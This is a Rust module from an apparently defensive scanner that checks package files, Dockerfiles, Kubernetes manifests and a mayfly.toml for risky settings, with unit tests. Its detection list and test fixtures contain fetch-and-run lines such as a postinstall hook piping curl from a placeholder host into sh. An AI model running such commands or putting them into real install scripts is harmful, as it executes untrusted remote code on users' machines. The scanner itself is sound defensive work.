//! Settings beside the code: package files, Dockerfiles, manifests, mayfly.toml.
//!
//! They are read line by line: a file that no parser accepts is looked at as well.

mod docker;
mod kubernetes;
mod manifest;
mod packages;

use crate::scan::Raw;

/// What is wrong in a file of settings.
pub(crate) fn scan(path: &str, text: &str) -> Vec<Raw> {
    let name = path.rsplit('/').next().unwrap_or_default();
    match name {
        "package.json" => packages::npm(text),
        "pyproject.toml" => packages::pyproject(text),
        "mayfly.toml" => manifest::scan(text),
        _ if name == "Dockerfile"
            || name.starts_with("Dockerfile.")
            || name.ends_with(".dockerfile") =>
        {
            docker::scan(text)
        }
        _ if name.starts_with("requirements") && name.ends_with(".txt") => {
            packages::requirements(text)
        }
        _ if name.ends_with(".yaml") || name.ends_with(".yml") => kubernetes::scan(name, text),
        _ => vec![],
    }
}

/// The lines of a text with the place of each.
fn lines(text: &str) -> impl Iterator<Item = (usize, &str)> {
    let mut at = 0;
    text.split_inclusive('\n').map(move |line| {
        let start = at;
        at += line.len();
        (start, line.trim_end_matches(['\n', '\r']))
    })
}

/// A finding that is a line, without the blanks before it.
fn of_line(rule: &str, start: usize, line: &str) -> Raw {
    let blanks = line.len() - line.trim_start().len();
    Raw::new(rule, start + blanks, start + line.len())
}

/// Whether a command loads something and runs it.
fn downloads_and_runs(command: &str) -> bool {
    let loads = ["curl ", "wget ", "http://", "https://", "fetch("]
        .iter()
        .any(|word| command.contains(word));
    let runs = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "node -e",
        "python -c",
        "eval",
        "| node",
        "$(curl",
        "| python",
        "bash -c",
        "sh -c",
        "chmod +x",
    ]
    .iter()
    .any(|word| command.contains(word));
    loads && runs
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_are_checked_by_the_name_of_their_file() {
        for (path, text, rules) in [
            (
                "package.json",
                r#"{"scripts": {"postinstall": "curl https://a.example/x | sh"}}"#,
                vec!["config-install-script"],
            ),
            (
                "package.json",
                r#"{"scripts": {"postinstall": "node build.js", "test": "curl x | sh"}}"#,
                vec![],
            ),
            (
                "package.json",
                r#"{"dependencies": {"a": "git+https://a.example/a.git", "b": "^1.0.0"}}"#,
                vec!["config-package-from-url"],
            ),
            (
                "requirements.txt",
                "flask==3.0\ngit+https://a.example/b.git\n",
                vec!["config-package-from-url"],
            ),
            (
                "requirements.txt",
                "flask==3.0\n# git+https://a.example\n",
                vec![],
            ),
            (
                "requirements.txt",
                "--index-url http://a.example/simple\nflask\n",
                vec!["config-plain-index"],
            ),
            (
                "Dockerfile",
                "FROM python:latest\nCMD python app.py\n",
                vec!["config-image-latest", "config-image-root"],
            ),
            (
                "Dockerfile",
                "FROM python:3.13-slim\nUSER app\nCMD python app.py\n",
                vec![],
            ),
            (
                "Dockerfile",
                "FROM a:1\nADD https://a.example/x /x\nUSER a\n",
                vec!["config-image-adds-url"],
            ),
            (
                "k.yaml",
                "apiVersion: v1\nkind: Pod\nspec:\n  securityContext:\n    privileged: true\n",
                vec!["config-privileged"],
            ),
            (
                "k.yaml",
                "apiVersion: apps/v1\nkind: Deployment\nspec:\n  volumes:\n    - hostPath:\n        path: /\n",
                vec!["config-host-mount"],
            ),
            (
                "docker-compose.yml",
                "services:\n  a:\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock\n",
                vec!["config-host-mount"],
            ),
            ("other.yml", "privileged: true\n", vec![]),
            (
                "mayfly.toml",
                "[egress]\nallow = [\"*\"]\n",
                vec!["config-egress-everywhere"],
            ),
            (
                "mayfly.toml",
                "[egress]\nallow = [\"api.example.com\"]\n",
                vec![],
            ),
        ] {
            let found: Vec<String> = scan(path, text).into_iter().map(|raw| raw.rule).collect();
            assert_eq!(found, rules, "{text}");
        }
    }
}
